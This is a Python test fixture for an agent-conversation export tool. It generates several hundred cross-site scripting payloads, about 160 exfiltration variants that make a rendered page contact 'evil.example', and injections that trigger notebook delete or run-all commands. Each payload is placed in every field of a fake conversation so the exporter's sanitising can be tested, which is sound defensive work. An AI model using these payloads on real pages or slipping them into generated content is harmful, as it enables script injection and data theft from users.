"""What pages were attacked with: scripts in 400 forms, and 160 ways to have a page tell somebody.

``python -m tests.export.payloads`` prints how many.
"""

from __future__ import annotations

import base64

import sagents_nb as sa
from sagents_nb.events import DecisionMade
from sagents_nb.export import Document, document_of
from sagents_nb.files import FileEntry
from sagents_nb.files.entry import new_file
from sagents_nb.frames import Conversation
from sagents_nb.text import whole

RUN = "alert(1)"
_SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode())
_PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

_EVENTS = """
    onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput
    onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncanplay onchange onclick
    oncopy oncontentvisibilityautostatechange oncuechange oncut ondblclick ondrag ondrop
    onend onerror onfocus onfocusin onformdata onhashchange oninput oninvalid onkeydown
    onload onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onplay
    onpointerdown onpointerover onpopstate onprogress onrepeat onreset onresize onscroll
    onscrollend onsearch onseeked onselect onstart onstorage onsubmit onsuspend ontoggle
    ontouchstart ontransitionend onunload onvolumechange onwheel
"""
_OF_EVENTS = "body details img input math svg video x-own"

_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</summary></details><script>{RUN}</script>",
    f"</pre></code><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f'\\"><script>{RUN}</script>',
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml?><script>{RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
    f"<plaintext><script>{RUN}</script>",
    f"<listing>&lt;img onerror={RUN} src=x&gt;</listing>",
    f"<select><template><style><!--</style><a rel='--></style></template></select>"
    f"<img id=x src onerror={RUN}>'>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc=&lt;script&gt;{RUN}&lt;/script&gt;>",
    f"<frameset onload={RUN}>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html;base64,{_PAGE}'>",
    f"<embed src=javascript:{RUN}>",
    f"<embed src='data:image/svg+xml;base64,{_SVG.decode()}'>",
    f"<applet code=javascript:{RUN}>",
    f"<base href='javascript:{RUN}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    f"<link rel=stylesheet href='javascript:{RUN}'>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<style>*{{behavior:url(javascript:{RUN})}}</style>",
    f"<div style='background:url(javascript:{RUN})'>x</div>",
    f"<div style='width:expression({RUN})'>x</div>",
    "<div style=\"-moz-binding:url('data:,x')\">",
    f"<table background=javascript:{RUN}><td>x",
    f"<input type=image src=javascript:{RUN}>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<bgsound src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<img src=`x` onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src='x' onerror='{RUN}' ",
    "<img src=x onerror=&#97;lert(1)>",
    f"<img \x00src=x onerror={RUN}>",
    f"<img src=x:x onerror={RUN}>//",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<svg/onload={RUN}>",
    f"<svg\tonload={RUN}>",
    f"<svg\x0conload={RUN}>",
    f"<svg onload={RUN}//",
    f"<a href='x' onclick={RUN}>x</a>",
    f"<https://x/onfocus={RUN}>",
    f"<x@y.z onclick={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x",
    f"<p onmouseover={RUN} role=alert tabindex=0>x</p>",
    f"<x onclick={RUN} contenteditable>x</x>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={RUN}>y</p>",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\x1b[2J<script>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    f"<\u200bscript>{RUN}</script>",
    f"\ud83d<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "<span data-commandlinker-command='filebrowser:delete'>x</span>",
    "<button data-commandlinker-command='notebook:run-all-cells'>Approve</button>",
    f"%%javascript\n{RUN}",
    f"%%html\n<script>{RUN}</script>",
    f"%%svg\n<svg onload={RUN}/>",
    # Formulas and diagrams.
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\href{{java&#115;cript:{RUN}}}{{x}}$",
    f"$$\\href{{data:text/html;base64,{_PAGE}}}{{x}}$$",
    f"$\\url{{javascript:{RUN}}}$",
    f'$\\htmlId{{x" onmouseover="{RUN}}}{{x}}$',
    f"$\\htmlClass{{x' onclick='{RUN}}}{{x}}$",
    f'$\\htmlData{{commandlinker-command=x, x="{RUN}"}}{{x}}$',
    f"$\\mmlToken{{mi}}[onclick='{RUN}' href='javascript:{RUN}']{{x}}$",
    f"$\\mmlToken{{mi}}[data-commandlinker-command='notebook:run-all-cells']{{{RUN}}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f'$\\unicode[x" onload="{RUN}]{{65}}$',
    f"\\(\\style{{background:url(javascript:{RUN})}}{{x}}\\)",
    f"\\begin{{equation}}\\href{{javascript:{RUN}}}{{x}}\\end{{equation}}",
    f"\\[<script>{RUN}</script>\\]",
    f"$a <img src=x onerror={RUN}> b$",
    f"$a\\$<svg onload={RUN}>$",
    f'```mermaid\ngraph LR\nA["<img src=x onerror={RUN}>"]\n```',
    f"```mermaid\ngraph LR\nA-->B\nclick A call {RUN}\n```",
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose', 'htmlLabels': true}}}}%%\n"
    f'graph LR\nA["<img src=x onerror={RUN}>"]\n```',
    f'```mermaid\ngraph LR\nA-->B\nclick A href "javascript:{RUN}"\n```',
]

_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java\\script:{RUN}",
    f"javascript://x/%0a{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{_PAGE}",
    f"data:image/svg+xml;base64,{_SVG.decode()}",
    f"data:application/xhtml+xml;base64,{_PAGE}",
    f"data:,{RUN}",
    f"blob:https://evil.example/{RUN}",
    f"filesystem:https://evil.example/{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:javascript:{RUN}",
    f"file:///etc/passwd#{RUN}",
    f"\u2028javascript:{RUN}",
    f"ｊavascript:{RUN}",
    f"%6Aavascript:{RUN}",
]
_LINKED = [
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "<{0}>",
    "[x][r]\n\n[r]: {0}",
    "[x]: <{0}>\n\n[x]",
    "<a href='{0}'>x</a>",
]
_IN_MARKDOWN = [
    "`{0}`",
    "``{0}",
    "```html\n{0}\n```",
    "```{0}\nx\n```",
    "~~~\n{0}",
    "> {0}",
    "- {0}",
    "1. ```\n   {0}\n   ```",
    "| a |\n|--|\n| {0} |",
    "    {0}",
    "**{0}**",
    "[{0}](http://x.example)",
    '[x](http://x.example "{0}")',
    "![{0}](http://x.example)",
    "$${0}$$",
    "# {0}",
    "\\{0}",
    "<!-- {0} -->",
    "[^1]: {0}\n\n[^1]",
    "<details>\n\n{0}\n\n</details>",
    "$\\href{{javascript:alert(1)}}{{{0}}}$",
]

SCRIPTS = list(
    dict.fromkeys(
        [
            *_SCRIPTS,
            *(
                f"<{_OF_EVENTS.split()[n % 8]} src=x {name}={RUN}>"
                for n, name in enumerate(_EVENTS.split())
            ),
            *(form.format(address) for form in _LINKED for address in _ADDRESSES),
            *(form.format(f"<img src=x onerror={RUN}>") for form in _IN_MARKDOWN),
            *(form.format(f"<script>{RUN}</script>") for form in _IN_MARKDOWN),
            *(f"{mark}{RUN}{mark}" for mark in ("<!--", "<?", "<!", "</", "</details>")),
        ]
    )
)
"""Texts that want to become a script."""

_EVIL = "https://evil.example/"
_ASKING = [
    "<img src='{0}'>",
    "<img srcset='{0} 2x'>",
    "<img src=x lowsrc='{0}'>",
    "<img dynsrc='{0}'>",
    "<image src='{0}'>",
    "<input type=image src='{0}'>",
    "<picture><source srcset='{0}'><img></picture>",
    "<video src='{0}'>",
    "<video poster='{0}'>",
    "<audio src='{0}'>",
    "<video><source src='{0}'></video>",
    "<video><track src='{0}' default></video>",
    "<iframe src='{0}'></iframe>",
    "<frame src='{0}'>",
    "<embed src='{0}'>",
    "<object data='{0}'></object>",
    "<object><param name=movie value='{0}'>",
    "<applet codebase='{0}'>",
    "<script src='{0}'></script>",
    "<link rel=stylesheet href='{0}'>",
    "<link rel=prefetch href='{0}'>",
    "<link rel=preload as=image href='{0}'>",
    "<link rel=preconnect href='{0}'>",
    "<link rel=dns-prefetch href='{0}'>",
    "<link rel=modulepreload href='{0}'>",
    "<link rel=prerender href='{0}'>",
    "<link rel=icon href='{0}'>",
    "<link rel=manifest href='{0}'>",
    "<link rel=import href='{0}'>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<meta http-equiv=Link content='<{0}>; rel=preload'>",
    "<meta http-equiv=set-cookie content='a={0}'>",
    "<base href='{0}'><img src=x>",
    "<base target='{0}'>",
    "<form action='{0}'><input name=q value=s></form>",
    "<button formaction='{0}'>x</button>",
    "<a href=x ping='{0}'>x</a>",
    "<a href='{0}' download>x</a>",
    "<body background='{0}'>",
    "<table background='{0}'>",
    "<td background='{0}'>x",
    "<div style='background:url({0})'>x</div>",
    "<div style='background-image:image-set(\"{0}\" 1x)'>x</div>",
    "<li style='list-style-image:url({0})'>x",
    "<p style='cursor:url({0}),auto'>x</p>",
    "<p style='content:url({0})'>x</p>",
    "<p style='filter:url({0}#f)'>x</p>",
    "<p style='mask:url({0})'>x</p>",
    "<p style='border-image:url({0}) 1'>x</p>",
    "<p style='shape-outside:url({0})'>x</p>",
    "<style>@import '{0}';</style>",
    "<style>@import url({0});</style>",
    "<style>@font-face{{font-family:x;src:url({0})}}*{{font-family:x}}</style>",
    "<style>body{{background:url({0})}}</style>",
    "<style>input[value^=s]{{background:url({0})}}</style>",
    "<style>@namespace url({0});</style>",
    "<style>a::before{{content:url({0})}}</style>",
    "<svg><image href='{0}'/></svg>",
    "<svg><image xlink:href='{0}'/></svg>",
    "<svg><use href='{0}#x'/></svg>",
    "<svg><feImage href='{0}'/></svg>",
    "<svg><script href='{0}'/></svg>",
    "<svg fill='url({0}#p)'><rect/></svg>",
    "<svg><style>@import '{0}'</style></svg>",
    "<svg><textPath href='{0}#p'>x</textPath></svg>",
    "<math href='{0}'>x</math>",
    "<math><mglyph src='{0}'/></math>",
    "<blockquote cite='{0}'>x</blockquote>",
    "<q cite='{0}'>x</q>",
    "<ins cite='{0}'>x</ins>",
    "<html manifest='{0}'>",
    "<head profile='{0}'>",
    "<bgsound src='{0}'>",
    "<layer src='{0}'>",
    "<portal src='{0}'></portal>",
    "<fencedframe src='{0}'>",
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{0}"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"x":"{0}"}}}}</script>',
    "<x is=img src='{0}'>",
    "<?xml-stylesheet href='{0}'?>",
    "<!DOCTYPE x SYSTEM '{0}'>",
    "<noscript><img src='{0}'></noscript>",
    "<template><img src='{0}'></template>",
    "<iframe srcdoc=\"<img src='{0}'>\"></iframe>",
    "![x]({0})",
    "![x](<{0}>)",
    "![x][r]\n\n[r]: {0}",
    "![r]\n\n[r]: {0}",
    "![x]({0} 'title')",
    "[![x]({0})]({0})",
    "![x](//evil.example/x.png)",
    "![x](\\\\evil.example\\x.png)",
    "![x](HTTPS:{0})",
    "![x](http:evil.example)",
    "![x](ftp://evil.example/x)",
    "![x](attachment:../../x.png)",
    "![x](/files/secret.png)",
    "![x](data:image/svg+xml,<svg><image href='{0}'/></svg>)",
    "- ![x]({0})",
    "> ![x]({0})",
    "| a |\n|--|\n| ![x]({0}) |",
    "[x]({0} \"<img src='{0}'>\")",
    "!\\[x]({0})<img src={0}>",
    "$\\includegraphics{{{0}}}$",
    "&#33;[x]({0})",
    "!&#91;x]({0})",
    "[x]: {0}\n\n![x]",
    "[x]({0}?q=secret)",
    "<{0}?q=secret>",
    # Addresses that look as if they were on the page's own host.
    "![x](///evil.example/{1})",
    "![x](/\\evil.example/{1})",
    "![x](\t//evil.example/{1})",
    "![x](&#47;/evil.example/{1})",
    "![x](/&sol;evil.example/{1})",
    "![x](/&Tab;/evil.example/{1})",
    "![x][p]\n\n[p]: //evil.example/{1}",
    "<img src='//evil.example/{1}'>",
    "<img src='/&#9;/evil.example/{1}'>",
    "<img src='\\\\evil.example\\{1}'>",
    "<img src='&#104;ttps:&#47;&#47;evil.example/{1}'>",
    "&lt;img src='{0}'&gt;",
    "%3Cimg src='{0}'%3E",
    "<img\nsrc\n=\n{0}\n>",
    "<img alt='>' src={0}>",
    "<img loading=eager decoding=sync fetchpriority=high src={0}>",
    "<img crossorigin=use-credentials srcset='{0} 1x, {0} 2x' sizes=100vw>",
    "<a href='{0}' ping='{0}' target=_blank rel=opener>x</a>",
    "<area ping='{0}' href='{0}'>",
    "<video autoplay><source src='{0}' type=video/mp4></video>",
    "<link rel='preload' as=font href='{0}' crossorigin>",
    "<link rel=next href='{0}'>",
    "<link rel=alternate type=text/css title=x href='{0}'>",
    "<meta http-equiv=refresh content='0;//evil.example/{1}'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *; report-uri {0}'>",
    "<div style='background:u\\72l({0})'>x</div>",
    "<div style='--x:url({0});background:var(--x)'>x</div>",
    "<div style='content:counter(x,url({0}))' class='jp-mod-active'>x</div>",
    "<style>:root{{--x:url({0})}}*{{mask-image:var(--x)}}</style>",
    "<style>@import/**/'//evil.example/{1}'layer(x);</style>",
    "<svg><filter id=f><feImage xlink:href='{0}'/></filter><rect filter='url(#f)'/></svg>",
    "<svg><pattern id=p><image href='{0}' width=9 height=9/></pattern></svg>",
    "<svg><cursor xlink:href='{0}'/></svg>",
    "<svg><a xlink:href='{0}'><text>x</text></a><animate href='{0}#x'/></svg>",
    "<math><mi style='background:url({0})'>x</mi><mi href='{0}'>y</mi></math>",
    # Diagrams.
    "```mermaid\ngraph LR\nA@{{ img: '{0}' }}\n```",
    "```mermaid\ngraph LR\nA[\"<img src='{0}'>\"]\n```",
    "~~~ Mermaid x\n%%{{init: {{'themeCSS': '*{{background:url({0})}}'}}}}%%\ngraph LR\nA\n~~~",
    "```mermaid\n---\nconfig:\n  themeCSS: '@import url({0})'\n---\ngraph LR\nA\n```",
    "```mermaid\ngraph LR\nA-->B\nstyle A fill:url({0})\n```",
    "```mermaid\ngraph LR\nA-->B\nclick A href '{0}'\n```",
    "```mermaid\ngraph LR\nA-->B\nclassDef x background:u\\72l({0})\nclass A x\n```",
    "> ```mermaid\n> sequenceDiagram\n> A->>B: $$\\includegraphics{{{0}}}$$\n> ```",
    # Formulas.
    "$$\\includegraphics[width=1em]{{{0}}}$$",
    "$\\href{{{0}}}{{x}}$ and $\\url{{{0}}}$",
    "\\(\\htmlData{{src={0}}}{{x}}\\)",
    "$\\htmlStyle{{background:url({0})}}{{x}}$",
    "$\\style{{background:url({0})}}{{x}}$",
    "$\\style{{cursor:url({0}),auto}}{{x}}$",
    "$$\\style{{cursor:url({0}),auto;border-image:url({0}) 1}}{{\\text{{x}}}}$$",
    "$\\bbox[background:url({0})]{{x}}$",
    "$\\bbox[border:1px solid url({0})]{{x}}$",
    "$\\color{{url({0})}}{{x}} \\colorbox{{url({0})}}{{y}}$",
    "$\\mmlToken{{mi}}[href='{0}' style='cursor:url({0}),auto']{{x}}$",
    "$\\mathchoice{{}}{{\\style{{cursor:url(//evil.example/{1}),auto}}{{x}}}}{{}}{{}}$",
    "$\\def\\x#1{{\\style{{cursor:url(#1),auto}}{{y}}}} \\x{{{0}}}$",
    "$\\require{{html}}\\cssId{{x}}{{\\class{{jp-mod-active}}{{x}}}}$ $\\unicode[url({0})]{{65}}$",
    "\\begin{{equation}}\\style{{cursor:url({0}),auto}}{{x}}\\end{{equation}}",
    "\\begin{{align}}\\mmlToken{{mi}}[style='cursor:url({0})']{{x}}\\end{{align}}",
    "\\\\(\\style{{cursor:url({0}),auto}}{{x}}\\\\)",
    "\\\\[\\style{{cursor:url({0}),auto}}{{x}}\\\\]",
    "$\\bbox[cursor:url({0}),auto]{{x}}$",
    "$\\fcolorbox{{red;cursor:url({0}),auto}}{{red}}{{x}}$",
    "$\\unicode[a;cursor:url({0}),auto]{{65}}$",
    "$\\href{{//evil.example/{1}}}{{x}} \\href{{file:///etc/passwd}}{{y}}$",
    "&#36;\\style{{cursor:url({0}),auto}}{{x}}&#36;",
    "&dollar;&bsol;style{{cursor:url({0}),auto}}{{x}}&dollar;",
    "$\\&#115;tyle{{cursor:url({0}),auto}}{{x}}$",
    "$\\style{{cursor:\\75rl({0}),auto}}{{x}}$",
    "$\\let\\a=\\style \\a{{cursor:url({0}),auto}}{{x}}$",
    "$\\enclose{{box}}[mathcolor='red;cursor:url({0})']{{x}}$",
    # Definitions, footnotes, and what becomes a link by itself.
    "![a][A]\n\n[a]:\n  <{0}>\n  'title'",
    "x[^e]\n\n[^e]: ![x]({0}) <img src='{0}'>",
    "x[^f]\n\n[^f]:\n    ![x][g]\n\n[g]: {0}",
    "www.evil.example/{1} and {0} and mailto:a@evil.example",
    "![a]({0}){{: ping={0} }}",
    "<details open ontoggle=fetch('{0}')><summary>![x]({0})</summary></details>",
]
ASKING = [form.format(f"{_EVIL}{n}", n) for n, form in enumerate(_ASKING)]
"""Texts that want a page to ask for something elsewhere."""


def document_with(payloads: list[str]) -> Document:
    """A conversation in which each payload stands wherever somebody may have written it."""
    messages: list[sa.Message] = []
    events: list[DecisionMade] = []
    files: list[FileEntry] = []
    for number, evil in enumerate(payloads):
        one, two, three = (f"{kind}{number}" for kind in ("a", "b", "c"))
        calls = [
            sa.ToolCall(one, evil, {evil: evil, "list": [evil, evil]}),
            sa.ToolCall(two, "run_python", {"code": evil}),
            sa.ToolCall(three, "task", {"instructions": f"{evil}\n{evil}"}, error=evil),
        ]
        thought = sa.ThinkingPart(evil)
        picture = sa.ImagePart(url=evil)
        fake = sa.ImagePart(data=base64.b64encode(evil.encode(errors="replace")).decode())
        messages += [
            sa.Message.user([evil, picture, fake, sa.FilePart(data="AAAA", name=evil)]),
            sa.Message("assistant", (thought, sa.TextPart(evil), *calls), error=evil),
            sa.Message.tool(
                [
                    sa.ToolResult(one, evil, evil, metadata={"edited_arguments": {"x": evil}}),
                    sa.ToolResult(two, "run_python", evil, is_error=number % 2 == 0),
                    sa.ToolResult(three, "task", evil, metadata={"not_run": evil}),
                ]
            ),
            sa.Message(evil, (sa.TextPart(evil), sa.JsonPart({evil: evil}))),
            sa.Message.assistant(evil, model=evil),
        ]
        events += [
            DecisionMade(tool_call_id=one, decision=sa.Edit({evil: evil}), by=evil),
            DecisionMade(tool_call_id=two, decision=sa.Reject(evil), by=evil),
            DecisionMade(tool_call_id=three, decision=sa.Respond(evil), by=evil),
        ]
        kept = whole(evil)  # files hold no halves of characters
        files += [new_file(f"/{number} {kept}", kept), new_file(f"/{number}.md", kept)]
    state = sa.State(
        messages=messages, todos=[sa.Todo(evil) for evil in payloads if len(evil) <= 1000]
    )
    evil = payloads[0]
    return document_of(Conversation(evil, state, events, files), title=evil)


if __name__ == "__main__":
    print(f"{len(SCRIPTS)} scripts, {len(ASKING)} that ask")
